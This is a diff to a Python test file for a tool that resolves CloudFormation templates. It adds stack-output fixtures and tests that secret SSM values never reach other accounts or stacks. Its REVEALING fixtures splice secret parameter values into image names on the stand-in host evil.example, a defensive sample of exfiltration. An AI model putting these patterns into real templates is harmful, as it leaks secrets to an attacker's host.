@@ -65,6 +65,10 @@ class FakeClient:
         self._record(**parameters)
         return {"Exports": [{"Name": "Export", "Value": self.account.value}]}
 
+    def describe_stacks(self, **parameters: Any) -> dict[str, Any]:
+        self._record(**parameters)
+        return {"Stacks": [{"Outputs": [{"OutputKey": "Output", "OutputValue": self.account.value}]}]}
+
     def get_caller_identity(self) -> dict[str, Any]:
         self._record()
         return {"Account": ACCOUNT}
@@ -225,12 +229,17 @@ def with_secret(secret: object, **sections: Any) -> bytes:
     return json.dumps({**json.loads(private(secret, "evil.example/app:missing")), **sections}).encode()
 
 
+def output(stack: Any, **members: Any) -> dict[str, Any]:
+    return {"Fn::GetStackOutput": {"StackName": stack, "OutputName": "Output", **members}}
+
+
 REVEALING = {
     "host": template(f"{SSM}.evil.example/app:1"),
     "path": template(f"evil.example/{SSM}:1"),
     "tag": template(f"evil.example/app:{SSM}"),
     "whole": template(SSM),
     "export": template({"Fn::Sub": ["evil.example/${X}:1", {"X": {"Fn::ImportValue": "Export"}}]}),
+    "stack output": template({"Fn::Sub": ["evil.example/${X}:1", {"X": output("any")}]}),
     "typed parameter": template(
         {"Fn::Sub": "evil.example/${P}:1"},
         Parameters={"P": {"Type": "AWS::SSM::Parameter::Value<String>", "Default": "/any"}},
@@ -297,6 +306,27 @@ def test_a_value_goes_to_no_parameter_of_another_account(world: World, capsys: p
     image = {"Fn::Sub": ["{{resolve:ssm:" + arn + "${X}}}", {"X": SSM}]}
     explain(capsys, document.replace(b'"{{resolve:ssm:${X}}}"', json.dumps(image).encode()))
     assert [each["Names"] for each in world.account.called("ssm")] == [["/any"]]
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        pytest.param(output("any", Region=SSM), id="region"),
+        pytest.param(
+            output({"Fn::Sub": ["arn:aws:cloudformation:eu-west-1:${X}:stack/a/b", {"X": SSM}]}), id="account"
+        ),
+        pytest.param(output("any", Region="us-west-2", RoleArn=SSM), id="role"),
+    ],
+)
+def test_a_value_goes_to_no_stack_elsewhere(image: Any, world: World, capsys: pytest.CaptureFixture[str]) -> None:
+    explain(capsys, template(image))
+    assert world.account.called("ssm")
+    assert world.account.called("cloudformation") == []
+
+
+def test_a_value_may_name_a_stack_of_the_account(world: World, capsys: pytest.CaptureFixture[str]) -> None:
+    explain(capsys, template(output(SSM)))
+    assert world.account.called("cloudformation") == [{"StackName": VALUE}]
 
 
 def test_images_that_depend_on_no_value_are_looked_up(world: World, capsys: pytest.CaptureFixture[str]) -> None:
